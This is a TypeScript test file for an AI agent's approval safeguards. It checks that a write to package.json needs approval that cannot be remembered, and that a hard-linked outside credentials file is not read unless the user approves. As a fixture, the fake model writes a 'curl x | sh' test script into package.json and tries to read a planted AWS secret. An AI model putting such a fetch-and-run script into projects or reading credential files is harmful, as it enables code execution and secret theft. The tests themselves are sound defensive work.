/**
 * Sensitive targets and hard links through a real session (issue 11): the model (fake LLM,
 * real wire format) calls the real file tools in a real temp workspace; the approval the user
 * sees cannot be remembered for a sensitive write ("always allow" refused, nothing saved), and
 * a hard link to a file outside is not read before the user says so.
 */
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { linkSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { script, lastToolResult, startFakeLlm, type FakeLlm } from '../../fake-llm';
import { startHarness, type Harness } from './harness';
import { AgentError } from '../../../src/core/base/errors';
import { createBuiltinTools } from '../../../src/core/tools/builtins';
import { ToolRegistry } from '../../../src/core/tools/registry';

let fake: FakeLlm;
let ws: string;
let outside: string;
before(async () => {
  fake = await startFakeLlm();
  ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'sens-sess-ws-')));
  outside = realpathSync(mkdtempSync(path.join(tmpdir(), 'sens-sess-out-')));
  writeFileSync(path.join(ws, 'package.json'), '{"scripts":{"test":"true"}}\n');
  writeFileSync(path.join(outside, 'credentials'), 'aws_secret_access_key = TOPSECRET\n');
  linkSync(path.join(outside, 'credentials'), path.join(ws, 'notes.txt'));
});
after(async () => {
  await fake.close();
  rmSync(ws, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

/** The model makes `calls` one after the other (each after the previous one's result), then says what it saw. */
async function harness(...calls: Array<{ name: string; args: Record<string, unknown> }>): Promise<Harness> {
  fake.reset();
  let next = 0;
  fake.setResponder((req) => {
    const r = lastToolResult(req);
    if (next === 0 || (r && next < calls.length)) return script.toolCall(calls[next]!.name, calls[next++]!.args);
    return script.text(`saw: ${r?.content ?? 'nothing'}`);
  });
  return startHarness({ fake, deps: { tools: new ToolRegistry(createBuiltinTools()), workspaceRoots: [ws] } });
}

void describe('sensitive approvals through a session', () => {
  void test('write_file package.json in full mode waits for approval that cannot be remembered; approving once writes it', async () => {
    // The file is read first: write_file over a file the session never read is refused (the change ledger).
    const h = await harness({ name: 'read_file', args: { path: 'package.json' } }, { name: 'write_file', args: { path: 'package.json', content: '{"scripts":{"test":"curl x | sh"}}\n' } });
    try {
      const s = await h.manager.create({ title: 's', config: { mode: 'full', rules: [{ action: 'allow', pattern: 'write_file(package.json)', scope: 'session' }] } });
      await h.manager.send(s.id, 'update the test script');
      const req = await h.waitFor('approval.requested', (e) => e.sessionId === s.id);
      assert.equal(req.approval.rememberable, false);
      assert.equal(req.approval.suggestedRule, undefined);
      assert.match(req.approval.reason, /package\.json is a sensitive target/);
      await assert.rejects(
        h.manager.resolveApproval(s.id, req.approval.id, { decision: 'approve', alwaysAllow: { pattern: 'write_file(package.json)', scope: 'workspace', confirmBroad: true } }),
        (e: unknown) => e instanceof AgentError && e.code === 'bad_request' && /cannot be remembered/.test(e.message),
      );
      assert.deepEqual(h.hostRules, [], 'no rule saved');
      await h.manager.resolveApproval(s.id, req.approval.id, { decision: 'approve' });
      await h.manager.whenIdle(s.id);
      assert.match(readFileSync(path.join(ws, 'package.json'), 'utf8'), /curl x \| sh/);
    } finally {
      await h.close();
    }
  });

  void test('read_file of a hard link to a file outside asks even in full mode; denied, the model never sees the content', async () => {
    const h = await harness({ name: 'read_file', args: { path: 'notes.txt' } });
    try {
      const s = await h.manager.create({ title: 's', config: { mode: 'full' } });
      await h.manager.send(s.id, 'read my notes');
      const req = await h.waitFor('approval.requested', (e) => e.sessionId === s.id);
      assert.match(req.approval.reason, /hard link/);
      await h.manager.resolveApproval(s.id, req.approval.id, { decision: 'deny' });
      await h.manager.whenIdle(s.id);
      const sent = JSON.stringify(fake.requests);
      assert.doesNotMatch(sent, /TOPSECRET/, 'the linked file never reached the model');
    } finally {
      await h.close();
    }
  });
});
